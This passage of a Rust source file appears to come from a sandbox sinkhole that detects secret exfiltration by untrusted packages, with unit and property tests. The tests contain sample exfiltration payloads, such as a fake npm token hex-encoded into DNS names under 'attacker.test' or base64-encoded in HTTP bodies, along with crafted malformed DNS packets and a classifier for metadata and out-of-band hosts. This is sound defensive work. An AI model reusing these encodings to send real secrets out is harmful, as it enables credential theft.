/// port 53) the recorder saw before it arrived (with 50 ms of slack for clock reads).
fn who(connects: &[Sighting], at: u64, matches: impl Fn(&str) -> bool) -> Option<Actor> {
    let same: Vec<&Sighting> = connects.iter().filter(|c| matches(&c.what)).collect();
    same.iter()
        .rev()
        .find(|c| c.at_unix_ms <= at + 50)
        .or(same.last())
        .map(|c| c.actor.clone())
}

fn canary_ids(hits: &BTreeSet<usize>, canaries: &[Canary]) -> String {
    hits.iter()
        .filter_map(|i| canaries.get(*i))
        .map(|c| c.id.as_str())
        .collect::<Vec<_>>()
        .join(", ")
}

/// Labels of `name` that decode (hex, base32) to printable text.
fn decoded_labels(name: &str) -> Vec<String> {
    name.split('.')
        .filter_map(|l| decode_hex(l).or_else(|| decode_base32(l)))
        .filter(|d| d.iter().all(|b| b.is_ascii_graphic() || *b == b' '))
        .map(|d| String::from_utf8_lossy(&d).into_owned())
        .collect()
}

/// One finding for a DNS name (or, with `more`, for the names counted under a domain past the
/// budget).
fn dns_finding(
    name: &str,
    queries: usize,
    hits: &BTreeSet<usize>,
    at: u64,
    canaries: &[Canary],
    process: Option<Actor>,
    more: Option<(&str, usize)>,
) -> Finding {
    let decoded = decoded_labels(name);
    let mut detail: Vec<String> = Vec::new();
    if !decoded.is_empty() {
        detail.push(format!("decoded labels: {}", decoded.join(" | ")));
    }
    let (target, what) = match more {
        Some((domain, names)) => {
            detail.push(format!(
                "{names} more names under `{domain}` past the budget of {} names kept one by one; the first: `{name}`",
                budget::DNS_NAMES
            ));
            (
                format!("*.{domain}"),
                format!("{names} more DNS names under `{domain}`"),
            )
        }
        None => (name.to_string(), format!("DNS lookup of `{name}`")),
    };
    let detail = (!detail.is_empty()).then(|| detail.join("; "));
    if !hits.is_empty() {
        return Finding {
            code: Code::DnsExfiltration,
            kind: FindingKind::Exfiltration,
            severity: Severity::Critical,
            summary: match more {
                Some(_) => format!(
                    "secret sent out in DNS query names: {what} ({})",
                    canary_ids(hits, canaries)
                ),
                None => format!(
                    "secret sent out in a DNS query name ({})",
                    canary_ids(hits, canaries)
                ),
            },
            target,
            detail,
            process,
            at_unix_ms: Some(at),
        };
    }
    let (sev, why) = host_class(name);
    // Long encoded labels are a DNS tunnel even without a canary (hostname, user, cwd).
    let sev = if decoded.is_empty() {
        sev
    } else {
        sev.max(Severity::High)
    };
    Finding {
        code: if decoded.is_empty() {
            Code::DnsLookup
        } else {
            Code::DnsTunnel
        },
        kind: FindingKind::NetworkAttempt,
        severity: sev,
        summary: format!("{what} ({why}; {queries} queries)"),
        target,
        detail,
        process,
        at_unix_ms: Some(at),
    }
}

fn classify(
    state: &State,
    fake: &HashMap<Ipv4Addr, String>,
    canaries: &[Canary],
    connects: &[Sighting],
) -> Vec<Finding> {
    let mut out = Vec::new();
    for (name, seen) in &state.dns {
        let process = who(connects, seen.at, |a| a.ends_with(":53"));
        out.push(dns_finding(
            name,
            seen.qtypes,
            &seen.hits,
            seen.at,
            canaries,
            process,
            None,
        ));
    }
    for (domain, o) in &state.dns_overflow {
        let process = who(connects, o.at, |a| a.ends_with(":53"));
        out.push(dns_finding(
            &o.sample,
            o.queries,
            &o.hits,
            o.at,
            canaries,
            process,
            Some((domain, o.names)),
        ));
    }
    let mut tcp_seen: BTreeMap<String, usize> = BTreeMap::new();
    let mut not_inspected_total: u64 = 0;
    for c in &state.tcp {
        let Conn {
            dst,
            head: payload,
            total,
            not_inspected,
            hits,
            at,
        } = c;
        not_inspected_total += not_inspected;
        let process = who(connects, *at, |a| a == dst.to_string());
        let ip = dst.ip();
        let mapped = match ip {
            IpAddr::V4(v4) => fake.get(&v4).cloned(),
            IpAddr::V6(v6) => v6.to_ipv4_mapped().and_then(|v4| fake.get(&v4).cloned()),
        };
        let sni = sni(payload);
        let text = String::from_utf8_lossy(payload);
        let request_line = text
            .lines()
            .next()
            .filter(|l| l.contains(" HTTP/"))
            .map(str::to_string);
        let host_header = text
            .lines()
            .find_map(|l| {
                l.strip_prefix("Host: ")
                    .or_else(|| l.strip_prefix("host: "))
            })
            .map(|h| h.trim().to_string());
        let plain_ip = match ip {
            IpAddr::V6(v6) => v6.to_ipv4_mapped().map(IpAddr::V4).unwrap_or(ip),
            other => other,
        };
        let host = sni
            .clone()
            .or(host_header.clone())
            .or(mapped.clone())
            .unwrap_or_else(|| plain_ip.to_string());
        let target = format!("{host}:{}", dst.port());
        let mut detail = vec![format!("destination {plain_ip}:{}", dst.port())];
        if let Some(r) = &request_line {
            detail.push(format!("request `{r}`"));
        }
        if let Some(s) = &sni {
            detail.push(format!("TLS SNI {s}"));
        }
        if text.to_ascii_lowercase().contains("\nauthorization:") {
            detail.push("an Authorization header was present (value not recorded)".into());
        }
        detail.push(format!("{total} bytes; first: {}", printable(payload)));
        if *not_inspected > 0 {
            detail.push(format!(
                "{not_inspected} bytes not inspected (the inspection budget ran out)"
            ));
        }
        if !hits.is_empty() {
            out.push(Finding {
                code: Code::TcpExfiltration,
                kind: FindingKind::Exfiltration,
                severity: Severity::Critical,
                summary: format!("secret sent to `{target}` ({})", canary_ids(hits, canaries)),
                target,
                detail: Some(detail.join("; ")),
                process: process.clone(),
                at_unix_ms: Some(*at),
            });
            continue;
        }
        let count = tcp_seen.entry(target.clone()).or_default();
        *count += 1;
        if *count > 1 {
            continue;
        }
        let (sev, why) = host_class(&host);
        let unremarkable = sev <= Severity::Low;
        let (sev, why) = match sent_class(payload, request_line.as_deref()) {
            Some((s, what)) if unremarkable => (s, what),
            _ if unremarkable && host == plain_ip.to_string() => {
                // A raw address nobody resolved: a hard-coded endpoint.
                (Severity::Medium, "a hard-coded address nobody resolved")
            }
            _ => (sev, why),
        };
        out.push(Finding {
            code: Code::Connection,
            kind: FindingKind::NetworkAttempt,
            severity: sev,
            summary: format!("connection to `{target}` ({why})"),
            target,
            detail: Some(detail.join("; ")),
            process,
            at_unix_ms: Some(*at),
        });
    }
    for (dst, (count, hits, at)) in &state.tcp_overflow {
        let process = who(connects, *at, |a| a == dst.to_string());
        let name = match dst.ip() {
            IpAddr::V4(v4) => fake.get(&v4).cloned(),
            IpAddr::V6(v6) => v6.to_ipv4_mapped().and_then(|v4| fake.get(&v4).cloned()),
        };
        let target = format!(
            "{}:{}",
            name.unwrap_or_else(|| dst.ip().to_string()),
            dst.port()
        );
        let f = if hits.is_empty() {
            Finding::new(
                Code::Connection,
                format!(
                    "{count} more connections to `{target}` past the budget of {} recorded one by one",
                    budget::CONNECTIONS
                ),
                format!("{target} (more)"),
            )
            .severity(Severity::Medium)
        } else {
            Finding::new(
                Code::TcpExfiltration,
                format!(
                    "secret sent to `{target}` in {count} connections past the record budget ({})",
                    canary_ids(hits, canaries)
                ),
                format!("{target} (more)"),
            )
        };
        out.push(
            f.detail(format!("destination {dst}; searched for canaries in full"))
                .process(process)
                .at(Some(*at)),
        );
    }
    let mut degraded = Vec::new();
    if state.panic_count > 0 {
        degraded.push(format!(
            "{} datagram(s) or connection(s) made a parser fail ({}); the sinkhole kept serving",
            state.panic_count,
            state.panics.join("; ")
        ));
    }
    if state.unserved > 0 {
        degraded.push(format!(
            "{} connection(s) closed unread: {} were already open",
            state.unserved,
            budget::LIVE_CONNECTIONS
        ));
    }
    if not_inspected_total > 0 {
        degraded.push(format!(
            "{not_inspected_total} bytes not inspected for secrets (budget {} per connection, {} in all)",
            budget::INSPECT_PER_CONNECTION,
            budget::INSPECT_TOTAL
        ));
    }
    if !degraded.is_empty() {
        let severity = if state.panic_count > 0 || state.unserved > 0 {
            Severity::Medium
        } else {
            Severity::Low
        };
        out.push(
            Finding::new(
                Code::RecordingDegraded,
                format!("network recording degraded: {}", degraded.join("; ")),
                "sinkhole",
            )
            .severity(severity)
            .at(Some(super::now_unix_ms())),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn canary(v: &str) -> Canary {
        Canary {
            id: "npmrc-token".into(),
            value: v.into(),
        }
    }

    #[test]
    fn canaries_are_found_through_encodings() {
        let c = [canary("npm_AbCdEf0123456789xyz")];
        let b64 = "bnBtX0FiQ2RFZjAxMjM0NTY3ODl4eXo="; // base64 of the canary
        let double = "Ym5CdFgwRmlRMlJGWmpBeE1qTTBOVFkzT0RsNGVYbz0="; // base64(base64)
        for payload in [
            "token=npm_AbCdEf0123456789xyz".to_string(),
            format!("{{\"d\":\"{b64}\"}}"),
            format!("data={double}"),
        ] {
            assert_eq!(canaries_in(payload.as_bytes(), &c).len(), 1, "{payload}");
        }
        assert!(canaries_in(b"nothing here", &c).is_empty());
        // Host names arrive lowercased; loot may be stored reversed.
        assert_eq!(
            canaries_in(b"npm_abcdef0123456789xyz.x.attacker.test", &c).len(),
            1
        );
        let reversed: Vec<u8> = b"t=npm_AbCdEf0123456789xyz".iter().rev().copied().collect();
        assert_eq!(canaries_in(&reversed, &c).len(), 1);
        // A truncated token still counts (16 characters or more of it).
        assert_eq!(canaries_in(b"x=AbCdEf0123456789", &c).len(), 1);
        assert!(canaries_in(b"x=AbCdEf01234", &c).is_empty());
        let hex: String = "npm_AbCdEf0123456789xyz"
            .bytes()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert_eq!(
            canaries_in(format!("{hex}.x.attacker.test").as_bytes(), &c).len(),
            1
        );
    }

    #[test]
    fn dns_query_round_trip() {
        let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
        for l in ["abc", "example", "com"] {
            q.push(u8::try_from(l.len()).unwrap());
            q.extend_from_slice(l.as_bytes());
        }
        q.extend_from_slice(&[0, 0, 1, 0, 1]);
        let (name, qtype, end) = parse_query(&q).unwrap();
        assert_eq!((name.as_str(), qtype, end), ("abc.example.com", 1, q.len()));
        let a = answer(&q, Some(Ipv4Addr::new(198, 18, 0, 1)));
        assert_eq!(a[7], 1);
        assert_eq!(&a[a.len() - 4..], &[198, 18, 0, 1]);
    }

    #[test]
    fn hosts_are_classified() {
        assert_eq!(host_class("169.254.169.254").0, Severity::High);
        assert_eq!(host_class("abc.oastify.com").0, Severity::High);
        assert_eq!(host_class("github.com").0, Severity::Low);
        assert_eq!(host_class("api.github.com").0, Severity::Medium);
        assert_eq!(host_class("example.org").0, Severity::Low);
        assert_eq!(host_class("opencollective.com").0, Severity::Info);
        assert_eq!(
            sent_class(
                b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n",
                Some("GET /x HTTP/1.1")
            ),
            None
        );
        assert_eq!(
            sent_class(
                b"POST /x HTTP/1.1\r\nHost: a\r\n\r\nhostname=box",
                Some("POST /x HTTP/1.1")
            )
            .map(|s| s.0),
            Some(Severity::Medium)
        );
        assert_eq!(sent_class(&[0x16, 3, 1, 0, 200, 1, 0, 0], None), None);
    }

    #[test]
    fn connections_are_attributed_to_the_matching_connect() {
        let seen = |addr: &str, pid: u32, at: u64| Sighting {
            what: addr.into(),
            actor: Actor {
                pid,
                argv: vec![format!("p{pid}")],
            },
            at_unix_ms: at,
        };
        let connects = vec![
            seen("127.0.0.53:53", 4, 100),
            seen("198.18.0.1:443", 5, 110),
            seen("198.18.0.1:443", 6, 500),
            seen("198.18.0.2:80", 7, 120),
        ];
        let dst: SocketAddr = "198.18.0.1:443".parse().unwrap();
        let mut state = State::default();
        record_dns(&mut state, "x.attacker.test", 1, 101, BTreeSet::new());
        state.tcp.push(Conn {
            dst,
            head: b"GET / HTTP/1.1\r\nHost: x.attacker.test\r\n\r\n".to_vec(),
            total: 40,
            not_inspected: 0,
            hits: BTreeSet::new(),
            at: 111,
        });
        let f = classify(&state, &HashMap::new(), &[], &connects);
        let pids: Vec<Option<u32>> = f
            .iter()
            .map(|x| x.process.as_ref().map(|a| a.pid))
            .collect();
        assert_eq!(pids, vec![Some(4), Some(5)]);
        assert_eq!(f[1].at_unix_ms, Some(111));
    }

    /// A live sinkhole on loopback sockets, with the DNS and TCP addresses to reach it.
    fn live(canaries: &[Canary]) -> (Sinkhole, SocketAddr, SocketAddr) {
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        let (dns, http) = (udp.local_addr().unwrap(), tcp.local_addr().unwrap());
        let sockets = vec![
            (SinkSocket::Dns, OwnedFd::from(udp)),
            (SinkSocket::Tcp(http.port()), OwnedFd::from(tcp)),
        ];
        (Sinkhole::start_with(sockets, canaries), dns, http)
    }

    fn query(name: &str) -> Vec<u8> {
        let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
        for l in name.split('.') {
            q.push(u8::try_from(l.len()).unwrap());
            q.extend_from_slice(l.as_bytes());
        }
        q.extend_from_slice(&[0, 0, 1, 0, 1]);
        q
    }

    /// Queries that used to kill the DNS thread (a question cut short at the end of a full
    /// buffer; a header alone; a pointer; an endless label chain) leave it serving: the next
    /// query's exfiltration is still recorded.
    #[test]
    fn crafted_dns_queries_do_not_stop_the_dns_thread() {
        let c = [canary("npm_AbCdEf0123456789xyz")];
        let (hole, dns, _) = live(&c);
        let client = UdpSocket::bind("127.0.0.1:0").unwrap();
        client
            .set_read_timeout(Some(Duration::from_secs(2)))
            .unwrap();
        // The question ends in QTYPE without QCLASS, in the last bytes of a 1500-byte datagram
        // (the old buffer's size): the old parser sliced past its buffer.
        let mut cut = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
        while cut.len() < 1500 - 64 - 3 {
            cut.push(63);
            cut.extend_from_slice(&[b'a'; 63]);
        }
        cut.truncate(1500 - 3);
        let pad = 1500 - 3 - cut.len();
        if pad > 0 {
            cut.push(u8::try_from(pad - 1).unwrap());
            cut.extend(std::iter::repeat_n(b'b', pad - 1));
        }
        cut.extend_from_slice(&[0, 0, 1]);
        assert_eq!(parse_query(&cut), None);
        for crafted in [
            cut,
            vec![0u8; 12],
            vec![0, 0, 1, 0, 0, 1],
            [&query("a.test")[..12], &[0xC0, 0x0C, 0, 1, 0, 1]].concat(),
            vec![0xff; 4000],
        ] {
            client.send_to(&crafted, dns).unwrap();
        }
        let hex: String = "npm_AbCdEf0123456789xyz"
            .bytes()
            .map(|b| format!("{b:02x}"))
            .collect();
        client
            .send_to(&query(&format!("{hex}.1.x.attacker.test")), dns)
            .unwrap();
        let mut buf = [0u8; 512];
        let (n, _) = client
            .recv_from(&mut buf)
            .expect("the DNS thread still answers");
        assert!(n > 12);
        let f = hole.finish(&c, &[]);
        assert!(f.iter().any(|f| f.code == Code::DnsExfiltration), "{f:#?}");
    }

    /// Bytes after a complete HTTP request and after a pause, past the first 64 KiB, are read
    /// and searched: a canary there is an exfiltration.
    #[test]
    fn the_whole_stream_is_searched_after_the_request_and_a_pause() {
        let c = [canary("npm_AbCdEf0123456789xyz")];
        let (hole, _, http) = live(&c);
        let mut s = TcpStream::connect(http).unwrap();
        s.write_all(b"GET /x HTTP/1.1\r\nHost: a.test\r\n\r\n")
            .unwrap();
        let mut reply = [0u8; 64];
        let n = s.read(&mut reply).unwrap();
        assert!(reply[..n].starts_with(b"HTTP/1.1 404"));
        std::thread::sleep(Duration::from_millis(700));
        s.write_all(&vec![b'.'; 200 << 10]).unwrap();
        // base64 of the canary, after 200 KiB of filler.
        s.write_all(b" bnBtX0FiQ2RFZjAxMjM0NTY3ODl4eXo= ").unwrap();
        drop(s);
        std::thread::sleep(Duration::from_millis(300));
        let f = hole.finish(&c, &[]);
        let exfil: Vec<&Finding> = f
            .iter()
            .filter(|f| f.code == Code::TcpExfiltration)
            .collect();
        assert_eq!(exfil.len(), 1, "{f:#?}");
        assert!(exfil[0].target.ends_with(&format!(":{}", http.port())));
    }

    /// Past the name budget, names are counted under their domain in one finding, and names
    /// with a canary are still kept one by one.
    #[test]
    fn dns_names_past_the_budget_are_aggregated() {
        let mut state = State::default();
        for i in 0..(budget::DNS_NAMES + 1000) {
            record_dns(
                &mut state,
                &format!("n{i}.x.attacker.test"),
                1,
                5,
                BTreeSet::new(),
            );
        }
        record_dns(&mut state, "s.y.attacker.test", 1, 6, BTreeSet::from([0]));
        let c = [canary("npm_AbCdEf0123456789xyz")];
        let f = classify(&state, &HashMap::new(), &c, &[]);
        assert_eq!(f.len(), budget::DNS_NAMES + 2, "one finding for the rest");
        let more = f.iter().find(|f| f.target == "*.attacker.test").unwrap();
        assert!(more.summary.starts_with("1000 more DNS names"), "{more:?}");
        assert!(
            f.iter()
                .any(|f| f.target == "s.y.attacker.test" && f.code == Code::DnsExfiltration)
        );
    }

    /// The streaming search finds a canary wherever the stream is cut, in raw, hex or base64
    /// form, behind megabytes of other data.
    #[test]
    fn streaming_search_crosses_segment_cuts() {
        let c = [canary("npm_AbCdEf0123456789xyz")];
        let m = Matcher::new(&c);
        for (pad, form) in [
            (65_530usize, "npm_AbCdEf0123456789xyz".to_string()),
            (65_500, "bnBtX0FiQ2RFZjAxMjM0NTY3ODl4eXo=".to_string()),
            (
                300_000,
                "6e706d5f4162436445663031323334353637383978797a".to_string(),
            ),
        ] {
            let mut data = vec![b'x'; pad];
            data.push(b' ');
            data.extend_from_slice(form.as_bytes());
            data.push(b'\n');
            for chunk in [1usize, 7, 4096, 65_536] {
                let mut scan = StreamScan::new(&m);
                for piece in data.chunks(chunk.max(data.len() / 64)) {
                    scan.feed(piece);
                }
                assert_eq!(scan.finish(), BTreeSet::from([0]), "{pad} {form} {chunk}");
            }
        }
    }

    fn b64(data: &[u8]) -> String {
        const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for c in data.chunks(3) {
            let n = c.len();
            let v = (u32::from(c[0]) << 16)
                | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
                | u32::from(*c.get(2).unwrap_or(&0));
            for k in 0..4 {
                if k <= n {
                    out.push(char::from(A[((v >> (18 - 6 * k)) & 63) as usize]));
                } else {
                    out.push('=');
                }
            }
        }
        out
    }

    /// One token far longer than a segment (the base64, and the base64 of the base64, of a
    /// large file with the canary deep inside) is still decoded in full.
    #[test]
    fn a_giant_token_is_decoded_across_segments() {
        let c = [canary("npm_AbCdEf0123456789xyz")];
        let m = Matcher::new(&c);
        let mut file = Vec::new();
        for i in 0..20_000u32 {
            file.extend_from_slice(format!("line {i} of a big file\n").as_bytes());
        }
        let at = file.len() / 2 + 5;
        file.splice(at..at, b"token=npm_AbCdEf0123456789xyz\n".iter().copied());
        for token in [b64(&file), b64(b64(&file).as_bytes())] {
            assert!(token.len() > 4 * StreamScan::SEGMENT);
            let mut scan = StreamScan::new(&m);
            for piece in token.as_bytes().chunks(10_000) {
                scan.feed(piece);
            }
            assert_eq!(scan.finish(), BTreeSet::from([0]), "{}", token.len());
        }
    }

    mod props {
        use super::*;
        use proptest::prelude::*;

        fn bytes(max: usize) -> impl Strategy<Value = Vec<u8>> {
            proptest::collection::vec(any::<u8>(), 0..max)
        }

        fn label() -> impl Strategy<Value = String> {
            proptest::collection::vec(
                prop_oneof![Just(b'a'), Just(b'z'), Just(b'0'), Just(b'9'), Just(b'-')],
                1..63,
            )
            .prop_map(|b| String::from_utf8(b).unwrap())
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(256))]

            /// Any datagram: parsed or not, answered or not, never a panic; an answer starts
            /// with the question it answers.
            #[test]
            fn dns_parser_is_total(p in bytes(600)) {
                if let Some((_, qtype, qend)) = parse_query(&p) {
                    prop_assert!(qend <= p.len());
                    let ip = (qtype == 1).then(|| Ipv4Addr::new(198, 18, 0, 1));
                    let a = answer(&p[..qend], ip);
                    prop_assert_eq!(&a[12..qend], &p[12..qend]);
                }
                let _ = answer(&p, Some(Ipv4Addr::LOCALHOST));
            }

            /// A question built from labels parses back to the same name.
            #[test]
            fn dns_round_trip(labels in proptest::collection::vec(label(), 1..4)) {
                let name = labels.join(".");
                let q = query(&name);
                let (got, qtype, end) = parse_query(&q).unwrap();
                prop_assert_eq!((got, qtype, end), (name, 1, q.len()));
            }

            /// The HTTP and TLS sniffers and the SNI parser take anything.
            #[test]
            fn sniffers_are_total(mut p in bytes(400), head in 0usize..4) {
                let prefix: &[u8] = match head {
                    0 => b"\x16\x03\x01\x00\x80\x01",
                    1 => b"POST / HTTP/1.1\r\ncontent-length: 99999999999999999999999\r\n\r\n",
                    2 => b"GET / HTTP/1.1\r\ncontent-length: 18446744073709551615\r\n\r\n",
                    _ => b"",
                };
                p.splice(0..0, prefix.iter().copied());
                let _ = sni(&p);
                let _ = http_complete(&p);
                let _ = tls_record_complete(&p);
                let _ = sent_class(&p, Some("POST / HTTP/1.1"));
                let _ = printable(&p);
            }

            /// The decoders take any token; hex round-trips.
            #[test]
            fn decoders_are_total(p in bytes(200), raw in bytes(64)) {
                let s = String::from_utf8_lossy(&p);
                let _ = decode_hex(&s);
                let _ = decode_base32(&s);
                let _ = decode_base64(&s);
                let _ = expansions(&p);
                let hex: String = raw.iter().map(|b| format!("{b:02x}")).collect();
                if hex.len() >= 8 {
                    prop_assert_eq!(decode_hex(&hex), Some(raw.clone()));
                }
                let b = b64(&raw);
                if b.trim_end_matches('=').len() >= 12 {
                    let dec = decode_base64(&b).unwrap();
                    prop_assert_eq!(&dec[..raw.len()], &raw[..]);
                }
            }

            /// A canary put anywhere in random bytes is found whole and through the stream
            /// search, however the stream is chunked.
            #[test]
            fn canary_search_finds_it_anywhere(
                before in bytes(3000), after in bytes(3000), chunk in 1usize..5000, form in 0usize..3
            ) {
                let c = [canary("npm_AbCdEf0123456789xyz")];
                let secret = match form {
                    0 => "npm_AbCdEf0123456789xyz".to_string(),
                    1 => b64(b"npm_AbCdEf0123456789xyz"),
                    _ => "npm_AbCdEf0123456789xyz".bytes().map(|b| format!("{b:02x}")).collect(),
                };
                let mut data = before.clone();
                data.push(b'\n');
                data.extend_from_slice(secret.as_bytes());
                data.push(b'\n');
                data.extend_from_slice(&after);
                prop_assert_eq!(canaries_in(&data, &c).len(), 1);
                let m = Matcher::new(&c);
                let mut scan = StreamScan::new(&m);
                for piece in data.chunks(chunk) {
                    scan.feed(piece);
                }
                prop_assert_eq!(scan.finish(), BTreeSet::from([0]));
            }
        }
    }
}
